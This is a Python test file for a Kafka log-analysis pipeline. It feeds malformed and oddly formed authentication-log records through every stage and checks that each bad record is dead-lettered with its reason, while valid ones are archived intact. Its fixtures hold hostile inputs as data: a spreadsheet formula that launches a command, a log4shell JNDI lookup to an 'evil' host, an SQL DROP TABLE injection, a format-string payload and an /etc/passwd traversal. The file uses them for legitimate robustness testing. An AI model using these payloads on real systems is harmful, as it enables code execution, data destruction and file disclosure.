"""Hostile input mixed into a normal log: every bad record becomes a dead letter with a reason
naming the problem, every record that is odd but well-formed (formula-leading, ANSI/OSC, BiDi,
injection strings, odd number spellings...) is scored and archived like any event, no stage
dies, and the audit reconciles. 60+ kinds, one broker run for all of them."""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import pytest
from helpers import delete_topics, read_records, stream_config, wait_for

from pipeline.audit import audit
from pipeline.demo import StageProcesses
from pipeline.generate import GenerateSpec, write_log
from pipeline.kafka import make_producer
from pipeline.produce import produce_file
from pipeline.serde import codec
from pipeline.topicrecords import LINE_HEADER

GOOD = b"5000,U1@DOM1,U1@DOM1,C1,C2,Kerberos,Network,LogOn,Success"


def time_(value: bytes) -> bytes:
    return GOOD.replace(b"5000", value, 1)


def user(value: bytes | str) -> bytes:
    return GOOD.replace(b"U1@DOM1", value.encode() if isinstance(value, str) else value, 1)


BAD_HEADER = b"time,src_user,dst_user,src_computer,dst_computer,auth_type,logon_type,auth_orientation,success"

TOKENIZED = {"source": {"topic": "x", "partition": 0, "offset": 0}, "line": 1, "event_time": 1.0,
             "fields": [], "token_ids": None, "raw": "x"}
SCORED = {"source": {"topic": "x", "partition": 0, "offset": 0}, "line": 1, "event_time": 1.0,
          "window": 0, "entities": {"user": "U1"}, "loss": 1.5, "loss_total": 9.0, "raw": "x"}

# (kind, raw record value, what the dead letter's reason must say)
BAD_RAW = [
    ("empty", b"", "empty line"),
    ("whitespace only", b"  \t  ", "empty line"),
    ("null value", None, "null value"),
    ("binary", bytes(range(256)), "invalid UTF-8"),
    ("invalid UTF-8", b"1,U1\xff\xfe@DOM1,U1,C1,C2,K,N,L,S", "invalid UTF-8"),
    ("NUL bytes", GOOD.replace(b"U1@", b"U1\x00@", 1), "NUL"),
    ("2 MB line", b"A" * 2_000_000, "a CSV field longer than"),
    ("2 MB line of columns", b"1," + b"A," * 1_000_000, "expected 9 CSV columns, got 1000002"),
    ("too few columns", b"1,U1@DOM1,C1", "expected 9 CSV columns, got 3"),
    ("too many columns", GOOD + b",extra,more", "expected 9 CSV columns, got 11"),
    ("thousands of columns", b"," * 10_000, "expected 9 CSV columns, got 10001"),
    ("broken quoting", b'1,"U1@DOM1,U1@DOM1,C1,C2,K,N,L,S', "CSV"),
    ("unparsable time", GOOD.replace(b"5000", b"yesterday"), "bad time"),
    ("negative time", GOOD.replace(b"5000", b"-5000"), "negative"),
    ("far-future time", GOOD.replace(b"5000", b"99999999999"), "too far in the future"),
    ("NaN time", GOOD.replace(b"5000", b"nan"), "not a finite number"),
    ("infinite time", GOOD.replace(b"5000", b"inf"), "not a finite number"),
    ("empty time", GOOD.replace(b"5000", b""), "empty time"),
    ("only delimiters", b",,,,,,,,", "empty time"),
    ("header mid-stream", b"time,src_user,dst_user,src_computer,dst_computer,auth_type,logon_type,"
                          b"auth_orientation,success", "header row"),
    ("JSON line", b'{"time": 5000, "user": "U1"}', "expected 9 CSV columns"),
    ("Avro record on the raw topic", codec().encode("salka.TokenizedEvent", TOKENIZED), "invalid UTF-8"),
    ("carriage return only", b"\r", "empty line"),
    ("newline only", b"\n", "empty line"),
    ("NUL only", b"\x00", "NUL"),
    ("1 KB of NULs", b"\x00" * 1024, "NUL"),
    ("NUL inside the time", time_(b"50\x0000"), "NUL"),
    ("ELF header", b"\x7fELF\x02\x01\x01\x00", "NUL"),
    ("overlong UTF-8 slash", user(b"U1\xc0\xaf@DOM1"), "invalid UTF-8"),
    ("CESU-8 surrogate", user(b"U1\xed\xa0\x80@DOM1"), "invalid UTF-8"),
    ("truncated multibyte at the end", GOOD + b"\xe2\x82", "invalid UTF-8"),
    ("UTF-16 encoded line", GOOD.decode().encode("utf-16"), "invalid UTF-8"),
    ("gzip bytes", gzip.compress(GOOD), "invalid UTF-8"),
    ("PNG header", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "invalid UTF-8"),
    ("CSV quote bomb", b'"' * 100_000, "expected 9 CSV columns, got 1"),
    ("1 MB unterminated quote", b'1,"' + b"A" * 1_000_000, "a CSV field longer than"),
    ("bare CR inside a field", user(b"U1\rX"), "CSV"),
    ("trailing delimiter", GOOD + b",", "expected 9 CSV columns, got 10"),
    ("100k empty columns", b"," * 100_000, "expected 9 CSV columns, got 100001"),
    ("deeply nested JSON array", b"[" * 100_000, "expected 9 CSV columns, got 1"),
    ("deeply nested JSON object", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, "expected 9 CSV columns"),
    ("HTML script", b"<script>alert(1)</script>", "expected 9 CSV columns, got 1"),
    ("tab-separated line", GOOD.replace(b",", b"\t"), "expected 9 CSV columns, got 1"),
    ("semicolon-separated line", GOOD.replace(b",", b";"), "expected 9 CSV columns, got 1"),
    ("BOM before a header row", "\ufeff".encode() + BAD_HEADER, "header row"),
    ("5000-digit time", time_(b"9" * 5000), "bad time"),
    ("time 1e999", time_(b"1e999"), "not a finite number"),
    ("time Infinity", time_(b"Infinity"), "not a finite number"),
    ("time -inf", time_(b"-inf"), "not a finite number"),
    ("time nan(123)", time_(b"nan(123)"), "bad time"),
    ("hex float time", time_(b"0x1p10"), "bad time"),
    ("time 1e308", time_(b"1e308"), "too far in the future"),
    ("time 2**64", time_(b"18446744073709551616"), "too far in the future"),
    ("time -1e-300", time_(b"-1e-300"), "negative"),
    ("time with trailing garbage", time_(b"5000abc"), "bad time"),
    ("whitespace time", time_(b"   "), "empty time"),
    ("time with a thousands separator", time_(b"5,000"), "expected 9 CSV columns, got 10"),
]

# Well-formed records with hostile content: scored and archived like any event, raw text kept.
ODD_BUT_VALID = [
    ("formula =", user("=cmd|' /C calc'!A0")),
    ("formula +", user("+1+1")),
    ("formula -", user("-2+3@DOM1")),
    ("formula @", user("@SUM(A1)")),
    ("ANSI colour", user("\x1b[31mU1\x1b[0m@DOM1")),
    ("OSC window title", user("\x1b]0;pwned\x07U1@DOM1")),
    ("OSC 8 hyperlink", user("\x1b]8;;http://evil/\x1b\\U1\x1b]8;;\x1b\\")),
    ("BiDi override", user("U1\u202e1MOD@")),
    ("zero-width space", user("U\u200b1@DOM1")),
    ("Cyrillic homoglyph", user("U1@D\u041eM1")),
    ("emoji", user("\U0001f600@DOM1")),
    ("combining-mark flood", user("a" + "\u0301" * 10_000)),
    ("backspaces", user("U1\x08\x08XX")),
    ("DEL character", user("U1\x7f")),
    ("NEL and LINE SEPARATOR", user("U1\x85\u2028@DOM1")),
    ("quoted newline", b'5000,"U1\nU2",U1@DOM1,C1,C2,Kerberos,Network,LogOn,Success'),
    ("SQL injection", user("U1'; DROP TABLE users;--")),
    ("log4shell lookup", user("${jndi:ldap://evil/a}")),
    ("format string", user("%s%s%n%x")),
    ("matplotlib math text", user("$\\frac{1}{0}$")),
    ("path traversal host", GOOD.replace(b"C1", b"../../etc/passwd", 1)),
    ("60 KB field", user("A" * 60_000)),
    ("all entities empty", b"5000,,,,,,,,"),
    ("time -0", time_(b"-0")),
    ("time with spaces", time_(b" 5000 ")),
    ("time in Arabic-Indic digits", time_("\u0665\u0660\u0660\u0660".encode())),
    ("quoted time", time_(b'"5000"')),
    ("CRLF ending", GOOD + b"\r\n"),
    ("BOM before the time", "\ufeff".encode() + GOOD),  # stripped: Excel / PowerShell write one
]


def archived_lines(archive: Path) -> list[int]:
    lines = []
    for path in archive.glob("window-*.csv.gz"):
        with gzip.open(path, "rt", newline="") as handle:
            lines += [int(row["line"]) for row in csv.DictReader(handle)]
    return lines


@pytest.mark.slow
def test_92_hostile_kinds_are_dead_lettered_or_scored_and_nothing_else_is_lost(kafka_bootstrap, tmp_path):
    assert len(BAD_RAW) + len(ODD_BUT_VALID) + 6 == 92  # the count in the name
    config, config_path = stream_config(tmp_path, kafka_bootstrap, {"topics": {"partitions": 3}})
    log, labels = tmp_path / "auth.csv", tmp_path / "labels.csv"
    write_log(GenerateSpec(users=8, computers=20, days=2, events_per_day=400, redteam_events=0,
                           seed=4), log, labels)
    good_events = len(log.read_text().splitlines()) - 1
    t = config.topics
    # Records that are not salka's on salka's internal topics, each stage's input
    bad_internal = [
        (t.tokens, b"not avro at all", "windower", "not an Avro single-object record"),
        (t.tokens, codec().encode("salka.WindowComplete", {"window": 1, "count": 1, "watermark": None,
                                                           "stage": "x"}),
         "windower", "where salka.TokenizedEvent was expected"),
        (t.windows, b"\xc3\x01" + b"\x00" * 8 + b"junk", "trainer", "unknown writer schema"),
        (t.windows, codec().encode("salka.TokenizedEvent", TOKENIZED), "trainer",
         "record of schema salka.TokenizedEvent"),
        (t.scores, codec().encode("salka.ScoredEvent", SCORED)[:-3], "archiver", "corrupt salka.ScoredEvent"),
        (t.scores, None, "archiver", "null"),
    ]
    producer = make_producer(config)
    for number, (_, value, _) in enumerate(BAD_RAW, start=100_000):
        producer.produce(t.raw, value, key=str(number).encode(),
                         headers=[(LINE_HEADER, str(number).encode())])
    for number, (_, value) in enumerate(ODD_BUT_VALID, start=200_000):
        producer.produce(t.raw, value, key=str(number).encode(),
                         headers=[(LINE_HEADER, str(number).encode())])
    for topic, value, _, _ in bad_internal:
        producer.produce(topic, value, partition=0)
    assert producer.flush(30) == 0
    expected_archived = good_events + len(ODD_BUT_VALID)

    stages = StageProcesses(config_path, tmp_path / "logs")
    archive = Path(config.streaming.archive_dir)
    try:
        for i in range(2):
            stages.start("tokenizer", i)
        for stage in ("windower", "trainer", "scorer", "archiver"):
            stages.start(stage)
        produce_file(config, log)
        wait_for(lambda: len(archived_lines(archive)) >= expected_archived or stages.dead(), 180,
                 what="every good event archived")
        assert not stages.dead(), stages.dead()
        expected_dead = len(BAD_RAW) + len(bad_internal)
        dead = read_records(config, t.dead_letters, expected=expected_dead, timeout=60)
    finally:
        stages.stop()
    assert not stages.dead() or all(p.returncode == 0 for _, p in stages.processes)

    letters = [r for name, r in dead if name == "salka.DeadLetter"]
    raw_letters = {r["line"]: r for r in letters if r["stage"] == "tokenizer"}
    for number, (kind, value, reason) in enumerate(BAD_RAW, start=100_000):
        assert number in raw_letters, f"{kind}: no dead letter"
        assert reason in raw_letters[number]["reason"], (kind, raw_letters[number]["reason"])
        assert raw_letters[number]["payload"] == value, kind  # the record itself is kept as data
    for topic, value, stage, reason in bad_internal:
        match = [r for r in letters if r["stage"] == stage and r["source"]["topic"] == topic
                 and reason in r["reason"]]
        assert match, (stage, reason, [r["reason"] for r in letters if r["stage"] == stage])
        assert match[0]["payload"] == value

    lines = archived_lines(archive)
    assert sorted(n for n in lines if n >= 200_000) == list(range(200_000, 200_000 + len(ODD_BUT_VALID)))
    assert len(lines) == len(set(lines)) == expected_archived
    report = audit(config)
    print(report.format())
    assert report.total.raw == good_events + len(BAD_RAW) + len(ODD_BUT_VALID)
    assert report.total.archived == expected_archived
    assert report.total.dead_letters == len(BAD_RAW)
    assert report.ok
    delete_topics(config)


OFFLINE = [bad for bad in BAD_RAW if bad[1] is not None]  # a null value exists only on Kafka


@pytest.mark.parametrize("kind, value, reason", OFFLINE, ids=[b[0] for b in OFFLINE])
def test_each_bad_raw_record_has_its_reason_offline(kind, value, reason):
    """The same reasons without a broker: the tokenizer's parse step on its own."""
    from pipeline.config import config_from_dict
    from pipeline.parsing import LineParser, Malformed

    result = LineParser(config_from_dict({}).input).parse(value, 7)
    assert isinstance(result, Malformed), kind
    assert reason in result.reason


@pytest.mark.parametrize("kind, value", ODD_BUT_VALID, ids=[b[0] for b in ODD_BUT_VALID])
def test_each_odd_but_valid_record_parses_with_its_text_intact(kind, value):
    from pipeline.config import config_from_dict
    from pipeline.parsing import Event, LineParser

    event = LineParser(config_from_dict({}).input).parse(value, 7)
    assert isinstance(event, Event), (kind, getattr(event, "reason", None))
    assert event.time in (0.0, 5000.0)
    # every field kept verbatim (no stripping or escaping at parse time)
    text = value.decode().rstrip("\r\n").removeprefix("\ufeff")
    assert list(event.fields.values()) == next(csv.reader([text]))
